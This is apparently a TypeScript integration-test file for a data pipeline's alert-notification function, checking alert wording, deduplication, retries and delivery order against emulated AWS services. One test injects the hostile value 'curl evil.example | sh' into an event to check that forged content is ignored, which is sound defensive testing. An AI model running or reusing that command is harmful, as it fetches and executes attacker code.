import { randomBytes } from "node:crypto";
import { CreateTableCommand, DeleteTableCommand, DynamoDBClient } from "@aws-sdk/client-dynamodb";
import { CreateBucketCommand, S3Client } from "@aws-sdk/client-s3";
import { CreateTopicCommand, DeleteTopicCommand, SNSClient, SubscribeCommand } from "@aws-sdk/client-sns";
import { CreateQueueCommand, DeleteQueueCommand, GetQueueAttributesCommand, SQSClient } from "@aws-sdk/client-sqs";
import { businessDateSchema } from "../../../events/ids.ts";
import { parseEvent } from "../../../events/parse-event.ts";
import { readAlerts } from "../../../cli/alerts/read-alerts.ts";
import type { Alert } from "../../../events/alert.ts";
import { BoardStore } from "../../../functions/notify/board-store.ts";
import { notify, topicChannel, type Channel } from "../../../functions/notify/notify.ts";
import { publishedEvent, storeEvent } from "../../../shared/aws/published-events.ts";
import { judge } from "../../../shared/errors/judge.ts";
import { withCommandsFor } from "../../../shared/text/command-for.ts";
import { clientOptions } from "../../../local/emulator/client-options.ts";
import { bodyOf, exampleEvent, RUN } from "../../support/ledger/event-builders.ts";
import { testServices } from "../../support/services.ts";

const YESTERDAY = businessDateSchema.parse("2026-02-06");
/** The advice of this error's pattern. */
const ADVICE = judge(Object.assign(new Error("x"), { code: "ER_BAD_FIELD_ERROR", errno: 1054 })).error.advice ?? "";
const ERROR = {
  ...{ kind: "data", code: "ER_BAD_FIELD_ERROR", message: "Unknown column 'rooms.room_no' in 'field list'" },
  ...{ retriable: false, advice: ADVICE, subjects: ["stg_rooms"] },
};
const FAILED = bodyOf(exampleEvent("LayerFailed", { error: ERROR }));
const TESTS_FAILED = bodyOf(exampleEvent("QualityTestFailed", { layer: "gold" }));
const COMPLETED = bodyOf(exampleEvent("PipelineCompleted", { finishedAt: "2026-02-07T04:00:00.000Z" }));

/** Real table, topic and queue; chat tools are replaced by functions. */
describe("notify", () => {
  const client = clientOptions(testServices().emulator);
  const [dynamoDb, sns, sqs] = [new DynamoDBClient(client), new SNSClient(client), new SQSClient(client)];
  const s3 = new S3Client({ ...client, forcePathStyle: true });
  let name: string;
  let topicArn: string;
  let queueUrl: string;

  beforeEach(async () => {
    name = `notify-${randomBytes(4).toString("hex")}`;
    await s3.send(new CreateBucketCommand({ Bucket: name }));
    await dynamoDb.send(
      new CreateTableCommand({
        TableName: name,
        BillingMode: "PAY_PER_REQUEST",
        AttributeDefinitions: [{ AttributeName: "id", AttributeType: "S" }],
        KeySchema: [{ AttributeName: "id", KeyType: "HASH" }],
      }),
    );
    topicArn = (await sns.send(new CreateTopicCommand({ Name: name }))).TopicArn ?? "";
    const send = { Effect: "Allow", Principal: { Service: "sns.amazonaws.com" }, Action: "sqs:SendMessage" };
    const Policy = JSON.stringify({ Version: "2012-10-17", Statement: [{ ...send, Resource: "*" }] });
    const made = await sqs.send(new CreateQueueCommand({ QueueName: name, Attributes: { Policy } }));
    queueUrl = made.QueueUrl ?? "";
    const { Attributes } = await sqs.send(
      new GetQueueAttributesCommand({ QueueUrl: queueUrl, AttributeNames: ["QueueArn"] }),
    );
    await sns.send(
      new SubscribeCommand({
        ...{ TopicArn: topicArn, Protocol: "sqs", Endpoint: Attributes?.QueueArn },
        Attributes: { RawMessageDelivery: "true" },
      }),
    );
  });
  afterEach(async () => {
    await dynamoDb.send(new DeleteTableCommand({ TableName: name }));
    await sns.send(new DeleteTopicCommand({ TopicArn: topicArn }));
    await sqs.send(new DeleteQueueCommand({ QueueUrl: queueUrl }));
  });
  afterAll(() => {
    for (const each of [dynamoDb, sns, sqs, s3]) each.destroy();
  });

  async function publish(body: string): Promise<void> {
    const { detail, ...event } = parseEvent(body);
    const stored = { detailType: event["detail-type"], detail: JSON.stringify(detail) };
    await storeEvent({ s3, bucket: name }, detail.metadata.eventId, stored);
  }
  async function take(body: string, more: Channel[] = []): Promise<unknown> {
    await publish(body);
    return takeUnpublished(body, more);
  }

  function takeUnpublished(body: string, more: Channel[] = []): Promise<unknown> {
    const context = {
      stage: "prod",
      region: "ap-northeast-1",
      endpoint: "",
      lastLayer: "gold",
      consoleUrl: "",
      bucket: "baton-prod-bucket",
    };
    return notify(body, {
      store: new BoardStore(dynamoDb, name),
      channels: [topicChannel(sns, topicArn), ...more],
      ...{ context, deferSeconds: 120 },
      readEvent: (message) => publishedEvent({ s3, bucket: name }, message),
    });
  }

  async function countMessages(): Promise<number> {
    const names = ["ApproximateNumberOfMessages", "ApproximateNumberOfMessagesNotVisible"] as const;
    const asked = await sqs.send(new GetQueueAttributesCommand({ QueueUrl: queueUrl, AttributeNames: [...names] }));
    return names.reduce((sum, attribute) => sum + Number(asked.Attributes?.[attribute] ?? 0), 0);
  }

  it("describes a failure for a reader without context", async () => {
    await take(
      bodyOf(exampleEvent("PipelineCompleted", { businessDate: YESTERDAY, finishedAt: "2026-02-05T22:06:00.000Z" })),
    );
    await take(FAILED);

    const [alert] = await readAlerts(sqs, queueUrl);
    expect(alert?.subject).toBe("[Baton prod] FAILED silver of 2026-02-07: ER_BAD_FIELD_ERROR in stg_rooms");
    expect(alert?.text).toBe(
      [
        "Silver of 2026-02-07 failed after its last attempt. It does not restart automatically.",
        "",
        `what            layer silver, attempt 1 of run ${RUN}`,
        "since           2026-02-07 07:04 JST",
        "model or table  stg_rooms",
        "error           ER_BAD_FIELD_ERROR: Unknown column 'rooms.room_no' in 'field list'",
        `safe            gold of 2026-02-06 (run ${RUN}, completed 2026-02-06 07:06 JST) stays live; dashboards show that date`,
        "",
        `look            ./baton --stage prod status ${RUN}`,
        `repair          ${withCommandsFor("prod", ADVICE)}`,
        `then            ./baton --stage prod dlq replay silver --run ${RUN}`,
        "",
        "logs            https://ap-northeast-1.console.aws.amazon.com/cloudwatch/home?region=ap-northeast-1" +
          "#logsV2:log-groups/log-group/$252Faws$252Flambda$252Fbaton-prod-silver" +
          `/log-events$3FfilterPattern$3D$2522${RUN}$2522`,
        "console         ./baton --stage prod report --open, or s3://baton-prod-bucket/console/index.html",
        "runbook         docs/runbook.md#failed",
      ].join("\n"),
    );
  });

  it("ignores events that no function has published, and any other content of one that was", async () => {
    await publish(FAILED);

    await takeUnpublished(TESTS_FAILED);
    await takeUnpublished(FAILED.replace("Unknown column", "curl evil.example | sh"));
    await takeUnpublished(COMPLETED);

    const alerts = await readAlerts(sqs, queueUrl);
    expect(alerts.map(({ kind, layer }) => [kind, layer])).toEqual([["opened", "silver"]]);
    expect(alerts[0]?.text).toContain(ERROR.message);
  });

  it("names tests, models and failing rows of a quality failure", async () => {
    await take(TESTS_FAILED);

    const [alert] = await readAlerts(sqs, queueUrl);
    expect(alert?.subject).toBe("[Baton prod] FAILED gold of 2026-02-07: QUALITY_TESTS_FAILED in new_contracts");
    expect(alert?.text).toContain("test            unique_new_contracts on new_contracts: 3 rows");
  });

  it("sends one alert, however many functions process the failure at the same time", async () => {
    await Promise.all([FAILED, FAILED, FAILED, TESTS_FAILED, FAILED, TESTS_FAILED].map((body) => take(body)));
    await Promise.all([COMPLETED, COMPLETED, COMPLETED].map((body) => take(body)));
    await take(FAILED);

    const alerts = await readAlerts(sqs, queueUrl);
    expect(alerts.map(({ kind }) => kind)).toEqual(["recovered", "opened", "opened"]);
    expect(await countMessages()).toBe(3);
    expect(alerts[0]?.text).toMatch(/silver of 2026-02-07.*gold of 2026-02-07/s);
  }, 30_000);

  it("delivers what a channel missed on the next receive, and nothing twice", async () => {
    const received: Alert[] = [];
    let isDown = true;
    const chat: Channel = {
      name: "webhook",
      send: (alert) => (isDown ? Promise.reject(new Error("down")) : Promise.resolve(void received.push(alert))),
    };

    await expect(take(FAILED, [chat])).rejects.toThrow("down");
    isDown = false;
    await take(FAILED, [chat]);
    await take(FAILED, [chat]);

    expect(received).toHaveLength(1);
    expect(await countMessages()).toBe(1);
  });

  it("delivers to all other channels before it waits for one that is down, earlier alerts included", async () => {
    const order: string[] = [];
    let isDown = true;
    const chat: Channel = {
      name: "webhook",
      send: ({ id }) => {
        order.push(`webhook ${id}`);
        return isDown ? Promise.reject(new Error("down")) : Promise.resolve();
      },
    };
    const mail: Channel = { name: "mail", send: ({ id }) => Promise.resolve(void order.push(`mail ${id}`)) };

    await expect(take(FAILED, [mail, chat])).rejects.toThrow("down");
    await expect(take(TESTS_FAILED, [mail, chat])).rejects.toThrow("down");
    isDown = false;
    await take(TESTS_FAILED, [mail, chat]);

    const ids = (await readAlerts(sqs, queueUrl)).map(({ id }) => id).sort();
    const [silver = "", gold = ""] = [ids.find((id) => id.includes("silver")), ids.find((id) => id.includes("gold"))];
    expect(order).toEqual([
      ...[`mail ${silver}`, `webhook ${silver}`],
      ...[`mail ${gold}`, `webhook ${silver}`, `webhook ${gold}`],
      ...[`webhook ${silver}`, `webhook ${gold}`],
    ]);
  }, 30_000);

  it("still delivers alerts when a channel is down for weeks", async () => {
    const chat: Channel = { name: "webhook", send: () => Promise.reject(new Error("gone")) };
    const at = (minute: number): string =>
      new Date(Date.parse("2026-02-07T04:00:00.000Z") + minute * 60_000).toISOString();

    for (let minute = 0; minute < 60; minute += 2) {
      const [failed, completed] = [at(minute), at(minute + 1)];
      await take(bodyOf(exampleEvent("LayerFailed", { error: ERROR, finishedAt: failed })), [chat]).catch(
        (error: unknown) => expect(String(error)).toContain("gone"),
      );
      await take(bodyOf(exampleEvent("PipelineCompleted", { finishedAt: completed })), [chat]).catch((error: unknown) =>
        expect(String(error)).toContain("gone"),
      );
    }

    expect(await countMessages()).toBe(60);
    const kept: string[] = [];
    const again: Channel = { name: "webhook", send: ({ at: when }) => Promise.resolve(void kept.push(when)) };
    await take(bodyOf(exampleEvent("LayerFailed", { error: ERROR, finishedAt: at(60) })), [again]);
    // fifty stored alerts, and the new one
    expect(kept).toHaveLength(51);
    expect(kept.at(-1)).toBe(at(60));
  }, 60_000);

  it("keeps alerts in the queue for later and for concurrent readers", async () => {
    await take(FAILED);
    await take(TESTS_FAILED);

    const looks = await Promise.all([readAlerts(sqs, queueUrl), readAlerts(sqs, queueUrl)]);

    expect(looks[0]).toHaveLength(2);
    expect(looks[1]).toEqual(looks[0]);
    expect(await readAlerts(sqs, queueUrl)).toEqual(looks[0]);
  }, 30_000);
});
